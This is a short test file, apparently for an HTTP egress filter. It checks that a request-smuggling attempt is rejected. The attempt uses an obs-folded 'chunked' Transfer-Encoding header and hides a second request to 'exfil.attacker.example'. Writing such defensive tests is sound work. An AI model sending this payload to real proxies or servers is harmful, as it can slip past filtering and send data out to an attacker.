# what: request smuggling shape on a connection to allowed.test: Transfer-Encoding empty, "chunked" folded onto a continuation line
# include: http
# expect-denied: 198.18.1.10 80 http bad_request
# expect-stdout: STATUS: HTTP/1.1 501
import socket


report(exchange("198.18.1.10", 80, b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\nGET /exfil HTTP/1.1\r\nHost: exfil.attacker.example\r\n\r\n"))
